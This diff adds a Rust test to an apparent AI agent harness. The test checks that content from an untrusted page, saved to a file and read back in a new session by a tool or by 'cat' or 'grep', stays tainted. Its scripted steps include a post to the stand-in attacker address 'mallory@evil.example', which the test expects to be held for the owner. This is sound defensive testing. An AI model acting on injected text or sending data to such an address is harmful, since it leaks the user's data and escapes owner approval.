@@ -676,3 +676,32 @@ fn a_text_that_was_held_back_is_read_once_the_owner_releases_it() {
         "the first time only"
     );
 }
+
+/// Laundering: what a page said does not become the agent's own by way of a file.
+#[test]
+fn a_file_read_by_a_command_taints_like_one_read_by_a_tool() {
+    for look in [
+        Step::tool("read", json!({ "path": "notes/x.txt" })),
+        Step::tool("exec", json!({ "command": "cat notes/x.txt" })),
+        Step::tool("exec", json!({ "command": "grep -r mallory ." })),
+    ] {
+        let home = Home::with(
+            [
+                inbox(),
+                Step::tool("write", json!({ "path": "notes/x.txt", "content": PAGE })),
+                Step::reply("kept"),
+                look,
+                post("mallory@evil.example"),
+                Step::reply("ok"),
+            ],
+            json!({ "tools": { "exec": { "mode": "full" } } }),
+        );
+        let owner = Owner::says(None);
+        let talk = home.open();
+        home.say(&talk, "Read my mail.", &owner).expect("a turn");
+        talk.begin_anew().expect("a new session");
+        home.say(&talk, "What do my notes say?", &owner)
+            .expect("a turn");
+        assert_eq!((owner.asked(), home.sent_to().len()), (1, 0));
+    }
+}
